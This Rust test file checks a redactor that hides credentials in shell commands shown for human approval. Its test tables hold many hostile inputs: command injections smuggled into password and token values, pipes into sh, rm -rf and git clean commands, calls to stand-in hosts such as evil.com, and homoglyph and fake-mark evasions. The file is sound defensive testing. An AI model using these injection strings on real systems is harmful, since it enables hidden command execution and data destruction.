use super::*;

const GITHUB: &str = concat!("ghp", "_aB3dE5gH7jK9mN1pQrS2tU4vW6xY8zA0bC2d");
const OPENAI: &str = concat!("sk", "-proj-aB3dE5gH7jK9mN1pQrS2tU4vW6xY8z");
const NPM: &str = concat!("npm", "_aB3dE5gH7jK9mN1pQrS2tU4vW6xY8zA0bC2d");
const JWT: &str =
    concat!("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0", ".aB3dE5gH7jK9mN1pQrS2tU4vW6xY8zA0bC2d4f6h8j0");
const PEM: &str = concat!(
    "-----BEGIN PRIVATE ",
    "KEY-----\nMIIEpAIBAAKCAQEA1234567890abcdefghij\ntouch /tmp/x\nabcd==\n-----END PRIVATE KEY-----"
);

fn show(text: &str) -> Shown {
    Redactor::default().show_for_approval(text, TextKind::Command)
}

/// The text with the samples above in the place of `§gh` and so on.
fn filled(text: &str) -> String {
    [("§gh", GITHUB), ("§sk", OPENAI), ("§npm", NPM), ("§jwt", JWT), ("§pem", PEM)]
        .iter()
        .fold(text.to_owned(), |text, (name, sample)| text.replace(name, sample))
}

/// As Codex shows a command: as an argument of its shell.
fn wrapped(command: &str) -> String {
    format!("/bin/bash -lc '{}'", command.replace('\'', r"'\''"))
}

/// Commands that must come out as they are: what looks like a secret runs, names what runs, or may become it.
#[rustfmt::skip]
const TRICKS: &[&str] = &[
    // the three that were reproduced
    r#"DB_PASSWORD="a$(touch x)" && true"#, "TOKEN=`touch x` true", "API_KEY=x;curl${IFS}evil|sh;true",
    // expansions inside of what a rule takes for the value
    r"PASSWORD=$'\x24(touch x)' true", "PASSWORD=${X:-$(touch x)} true", "PASSWORD=$((a[$(touch x)])) true",
    "SECRET=a$(touch x)b true", "TOKEN=x<(touch x) true", "TOKEN=x>(touch x) true",
    "--password=hunter2$(touch x)", r#"curl -H "Authorization: Bearer abc$(touch x)" https://h"#,
    "curl 'https://user:`touch x`@h/'", r#"curl "https://user:a$(touch x)@h/""#, r#"X_TOKEN="a" "b$(touch x)""#,
    "password={touch,x}", "PASSWORD=a&touch&x", "PASSWORD=a|sh", "API_KEY=a>/etc/passwd", "TOKEN=<(curl${IFS}evil)",
    "Cookie: session=abc; touch x", r#"curl -H "Cookie: a=b; $(touch x)" h"#, r#"curl -u "bob:a$(touch x)" h"#,
    r#"mysql --password "correct horse; touch x" db"#, r#"DB_PASSWORD='it'"'"'s $(touch x)'"#, "TOKEN=a~b true",
    r"password=a\;touch", "TOKEN=*.sh true", "SECRET=![x] true", "TOKEN=abc{1,2}def true",
    // a value that becomes a program, a word of one, or a name that matters
    "TOKEN=rm; $TOKEN -rf x", "API_KEY=curl && \"$API_KEY\" evil", "TOKEN=§npm; ${TOKEN%%_*} install evil",
    "TOKEN=§gh; ./$TOKEN", "TOKEN=§gh; eval $TOKEN", "echo §npm | cut -d_ -f1 | sh",
    "PASSWORD=rm; echo $PASSWORD", "alias password=rm; password -rf x", "declare -n secret=PATH; secret=bin; ls",
    "echo 'x --password rm -rf x' | cut -d' ' -f3- | sh", "TOKEN=§gh; bash -c \"$TOKEN\"",
    "for secret in rm; do $secret x; done", "PASSWORD=rm bash -c '$PASSWORD x'", "set -- --password rm; $2 x",
    "TOKEN=§gh; trap \"$TOKEN\" EXIT", "cat <<E | sh\nTOKEN=rm\n$TOKEN x\nE", "sh <<< 'password=rm'",
    "python3 -c 'import os; password=\"rm\"; os.system(password)'", "perl -e 'exec \"§sk\"'",
    // the name of a program, a file that is run, the target of a redirection
    "§gh --version", "true; §gh", "true && \"§gh\" x", "if true; then §sk; fi", "A=b §gh", "sudo §gh",
    "$(§gh)", "`§npm`", "(§sk x)", "bash §gh", "source §gh", ". §gh", "echo x > §gh", "cat < §sk",
    "env §gh", "sh -c '§gh x'", "sh -c \"§gh\"", "find . -exec §gh {} +", "xargs §gh", "{ §gh; }",
    "./§gh x", "/tmp/§gh x", "ssh host '§gh x'", "{§gh,x}",
    "echo > x-\\\nTOKEN=§gh y", "echo > TOKEN=§gh y", "echo >\\\nTOKEN=§gh y", "echo > \\\n\\\n TOKEN=§gh y",
    // the name of a variable
    "gh secret delete --secret=PROD", "kubectl delete secret=prod-db", "tee password=abc",
    "echo $§gh", "echo a$X§npm", "export §gh=a", "export §gh\\\n=a",
    // hosts and paths
    concat!("curl sk", "-evil.attacker1.com/x"), concat!("curl https://eyJaaaaaaaaaaaa", ".evil123.example.com/x"),
    "mysql --password=/tmp/evil.sh", "psql --token ./evil1", "x --password=evil.sh", "curl https://u:p@evil.com:80@h/x",
    "foo://u:p/../evil@h/", "curl https://u:p#@evil@h/", concat!("npm_config_token=sk", "-evil.attacker1.com curl $npm_config_token/x"),
    // what can be read is not generated
    concat!("echo sk", "-a1B2c3D4e5F6g7H8-rm-rf-home | tee x"), concat!("pip install -r x | sk", "-delete-all-of-it1"),
    // not ASCII, or invisible: another word than it seems
    "TOKEN=аbc123def456ghi789jkl | cat", "password=ｒｍ x",
    // a shell uses a variable without any expansion
    "PWD=id; ~+", "PWD=src; rm -rf ~+", "OLDPWD=src; cd -; git clean -fdx", "PWD=./§gh; ~+", "TOKEN=§gh; ~+/x",
    "shopt -s cdable_vars; DB_PASSWORD=victim; cd DB_PASSWORD; git clean -fdx",
    "sh\"\"opt -s cdable_vars; DB_PASSWORD=victim; cd DB_PASSWORD", "\\shopt -s cdable_vars; DB_PASSWORD=victim; cd DB_PASSWORD",
    "{shopt,-s,cdable_vars}; DB_PASSWORD=victim; cd DB_PASSWORD", "?hopt -s cdable_vars; DB_PASSWORD=victim; cd DB_PASSWORD",
    "setopt autonamedirs; DB_PASSWORD=victim; cd ~DB_PASSWORD", "de\"\"clare -n PASSWORD=victim; x",
];

#[test]
fn what_may_run_is_shown_whatever_it_looks_like() {
    let faults: Vec<String> = TRICKS
        .iter()
        .map(|trick| filled(trick))
        .flat_map(|trick| [wrapped(&trick), trick])
        .filter_map(|trick| {
            let shown = show(&trick);
            let is_right = shown.text == trick && shown.hidden == 0 && shown.is_whole;
            (!is_right).then(|| format!("{trick}\n  shows {shown:?}"))
        })
        .collect();
    assert!(faults.is_empty(), "{} of {}\n{}", faults.len(), 2 * TRICKS.len(), faults.join("\n"));
}

/// Commands whose secret is hidden: it stands between `«` and `»`.
#[rustfmt::skip]
const HIDDEN: &[(&str, &str)] = &[
    // any value, where nothing is expanded
    ("password", "DB_PASSWORD=«hunter2» psql -h db"), ("password", "cd x && PGPASSWORD=«hunter2» psql -h db; true"),
    ("password", "mysql --password=«hunter2» db"), ("password", "mysql --password=«hunter2» -u root"),
    ("password", "curl -u bob:«s3cret!» https://h"), ("url-password", "psql postgres://app:«s3cret»@db/main"),
    ("password", "curl -d '{\"password\":\"«hunter2»\"}' https://h"), ("authorization", "curl -H 'Authorization: Basic «dXNlcjpwYXNz»' h"),
    ("authorization", "curl -H \"Authorization: Bearer «§gh»\" h"), ("authorization", "curl -H 'Authorization: Bearer «§jwt»' h"),
    ("password", "export DB_PASSWORD=«hunter2»; cd ~/app && cargo run"), ("password", "cd ~ && DB_PASSWORD=«hunter2» make"),
    ("token", "GITHUB_TOKEN=«§gh» gh pr list"), ("token", "export TOKEN=«§gh» && gh pr list"), ("openai-key", "login «§sk»"),
    ("url-credential", "git clone https://«§gh»@github.com/x/y.git 2>&1"), ("github-token", "login \"«§gh»\" >/dev/null"),
    ("api-key", "AWS_SECRET_ACCESS_KEY=«wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY» aws s3 ls"), ("token", "docker run -e NPM_TOKEN=«§npm» --rm x"),
    ("telegram-token", "curl \"https://api.telegram.org/bot«123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw4»/getMe\""),
];

/// Commands with a real credential that may travel: it is neither shown nor approved unseen.
#[rustfmt::skip]
const WITHHELD: &[&str] = &[
    "curl -H \"Authorization: Bearer §gh\" \"$URL\" | jq .name", "GITHUB_TOKEN=§gh gh pr list > out",
    "export TOKEN=§gh && curl -H \"x-token: $TOKEN\" h", "curl -H 'Authorization: Bearer §jwt' h | jq .", "login §sk | tee log",
    "printf '{\"token\": \"§gh\"}' > x.json", "python3 run.py --api-key §sk | tee log",
    "TOKEN=A1b2C3d4E5f6G7h8I9j0K1; echo $TOKEN | cut --output-delimiter=' ' -c13-17,20-24 > n; chmod +x n; ./n",
    "echo §gh > n; make -f n", "echo §gh | jq -r @base64d > n; ./n",
];

#[test]
fn a_credential_that_may_travel_is_neither_shown_nor_approved_unseen() {
    let faults: Vec<String> = WITHHELD
        .iter()
        .map(|sample| filled(sample))
        .flat_map(|sample| [wrapped(&sample), sample])
        .map(|sample| show(&sample))
        .filter(|shown| shown.is_whole || shown.hidden != 1)
        .map(|shown| format!("{shown:?}"))
        .collect();
    assert!(faults.is_empty(), "{}", faults.join("\n"));
    let diff = filled("+TOKEN=§gh\n+echo $TOKEN | base64 -d | sh\n");
    let shown = Redactor::default().show_for_approval(&diff, TextKind::Excerpt);
    assert!(!shown.is_whole || shown.text.contains("ghp_"), "{shown:?}");
}

#[test]
fn a_secret_that_cannot_run_is_hidden_with_its_kind_and_length() {
    let faults: Vec<String> = HIDDEN
        .iter()
        .map(|(kind, sample)| (kind, filled(sample)))
        .flat_map(|(kind, sample)| [(kind, wrapped(&sample)), (kind, sample)])
        .filter_map(|(kind, sample)| {
            let (before, rest) = sample.split_once('«').unwrap();
            let (secret, after) = rest.split_once('»').unwrap();
            let shown = show(&format!("{before}{secret}{after}"));
            let expected = format!("{before}[{kind}, {} characters]{after}", secret.chars().count());
            let is_right =
                shown.text == expected && shown.hidden == 1 && shown.exposed == 0 && shown.is_whole;
            (!is_right).then(|| format!("{sample}\n  shows {shown:?}"))
        })
        .collect();
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn a_private_key_is_neither_shown_nor_approved_unseen() {
    for text in ["echo '§pem' > key", "sh -c '§pem'", "KEY=\"§pem\" true", "password=§pem"].map(filled) {
        let shown = show(&text);
        assert!(!shown.is_whole && !shown.text.contains("MIIEpAIB"), "{shown:?}");
    }
    let prose = Redactor::default().show_for_approval(PEM, TextKind::Prose);
    assert!(prose.is_whole && prose.hidden == 1, "{prose:?}");
}

#[test]
fn a_known_value_is_never_shown() {
    let values = ["correct-horse/battery", "pass$(word) \"x\"", "abc\u{200b}defghi"];
    let redactor = Redactor::knowing(values);
    let show = |text: &str| redactor.show_for_approval(text, TextKind::Command);
    let inert = show("login correct-horse/battery | tee x");
    assert_eq!(inert.text, "login [known-secret, 21 characters] | tee x");
    assert!(inert.is_whole);
    for text in [
        "correct-horse/battery x",
        "true; correct-horse/battery",
        "login correct-horse/battery | sh",
        "sh -c 'A='\\''x'\\'' correct-horse/battery'",
        "login 'pass$(word) \"x\"'",
        "curl -d '{\"a\": \"pass$(word) \\\"x\\\"\"}'",
        "PASSWORD=\"a$(login correct-horse/battery)\"; $(correct-horse/battery)",
        "login correct-\u{200b}horse/battery",
        "login $correct-horse/battery",
        "login a$Xcorrect-horse/battery",
        "login abcdefghi | $(abcdefghi)",
    ] {
        let shown = show(text);
        assert!(!shown.is_whole, "{shown:?}");
        let is_seen = ["correct-", "word", "defghi"].iter().any(|part| shown.text.contains(part));
        assert!(!is_seen, "{shown:?}");
    }
}

#[test]
fn a_secret_inside_of_what_is_shown_is_still_hidden() {
    let shown = show(&filled("login --password \"a; -H 'Authorization: Bearer §gh' b\" > x"));
    assert_eq!((shown.hidden, shown.exposed), (1, 1), "{shown:?}");
    assert!(shown.text.contains("\"a; -H 'Authorization: Bearer ["), "{shown:?}");
}

#[test]
fn a_text_that_poses_as_a_mark_is_told_from_one() {
    let text = "PASSWORD=hunter22 true [token, 8 characters] [Redacted : x] ［password， 3 chars］ [ -f x ]";
    for posing in ["[token, 9 сharacters]", "〖token, 9 characters〗", "[tоkеn, 9 сhаrасtеrs]"] {
        let shown = show(&format!("true {posing}"));
        assert!(!shown.text.contains(posing), "{shown:?}");
    }
    let shown = show(text);
    assert_eq!(shown.hidden, 1);
    assert_eq!(
        shown.text,
        "PASSWORD=[password, 8 characters] true ⟨U+005B⟩token, 8 characters] ⟨U+005B⟩Redacted : x] \
         ⟨U+FF3B⟩password， 3 chars］ [ -f x ]"
    );
}

#[test]
fn what_the_eye_does_not_see_is_named() {
    let shown = show("l\u{200b}s \u{1b}[;touch x\r\nrm\u{202e} y\u{2028}z");
    assert_eq!(shown.text, "l⟨U+200B⟩s ⟨U+001B⟩[;touch x⟨U+000D⟩\nrm⟨U+202E⟩ y⟨U+2028⟩z");
    assert_eq!(show("./deploy\u{a0}--dry-run a\u{3000}b").text, "./deploy⟨U+00A0⟩--dry-run a⟨U+3000⟩b");
    let diff = Redactor::default().show_for_approval("+a\r\n+b\rc\u{200b}\n", TextKind::Excerpt);
    assert_eq!(diff.text, "+a\n+b⟨U+000D⟩c⟨U+200B⟩\n");
}

#[test]
fn a_diff_hides_generated_values_only() {
    let show = |text: &str| Redactor::default().show_for_approval(&filled(text), TextKind::Excerpt);
    let hidden =
        show("@@ -1 +1,3 @@\n-API_KEY=x\n+API_KEY=§gh\n+client = OpenAI(\"§sk\")\n+  \"token\": \"§npm\",\n");
    assert_eq!(
        hidden.text,
        "@@ -1 +1,3 @@\n-API_KEY=x\n+API_KEY=[api-key, 40 characters]\n\
         +client = OpenAI(\"[openai-key, 38 characters]\")\n+  \"token\": \"[token, 40 characters]\",\n"
    );
    for text in
        ["+TOKEN=rm\n+echo x\n", "+  \"secret\": \"evil\",\n", "+§gh --version\n", "+T=§npm\n+${T%%_*} i x\n"]
    {
        let shown = show(text);
        assert_eq!((shown.text, shown.hidden), (filled(text), 0));
    }
}

#[test]
fn marks_are_left_alone_by_every_later_look() {
    let redactor = Redactor::default();
    for (_, sample) in HIDDEN {
        let shown = show(&filled(sample).replace(['«', '»'], ""));
        assert_eq!(redactor.redact(&shown.text), shown.text);
        let mut stream = redactor.stream();
        let streamed: String = shown.text.chars().map(|char| stream.push(&char.to_string())).collect();
        assert_eq!(streamed + &stream.finish(), shown.text);
    }
}

#[test]
fn texts_made_to_be_slow_are_not() {
    let key = format!("{GITHUB} ");
    for piece in [
        "$",
        "`",
        "x $a",
        "TOKEN=a;",
        "PASSWORD='a b' ",
        "[",
        "\"$(",
        "'",
        "-----BEGIN PRIVATE KEY-----",
        &key,
        "a\\ ",
        ". ",
    ] {
        let show = |count: usize| {
            let text = piece.repeat(count / piece.len());
            crate::text::work::take();
            let shown = show(&text);
            assert!(shown.text.len() >= shown.hidden, "{piece}");
            crate::text::work::take()
        };
        let (few, many) = (show(20_000), show(80_000));
        assert!(many <= 8 * few.max(1000), "{piece}: {few} and then {many}");
    }
}

#[test]
fn what_may_be_an_operand_or_is_decoded_is_shown() {
    for command in [
        "rm -rf -- --password importantdir",
        "dropdb --no-password production",
        "npm install --no-password evil-package",
        "echo API_TOKEN=YWxsOgoJdG91Y2ggYXRrX3B3bmVkOQo= | cut -d= -f2- | base64 -d | make -f -",
    ] {
        let shown = Redactor::default().show_for_approval(command, TextKind::Command);
        assert_eq!((shown.text.as_str(), shown.hidden), (command, 0));
    }
    for command in ["mysql --password=hunter2 -e 'select 1'", "DB_PASSWORD=hunter2 psql"] {
        assert_eq!(Redactor::default().show_for_approval(command, TextKind::Command).hidden, 1, "{command}");
    }
}
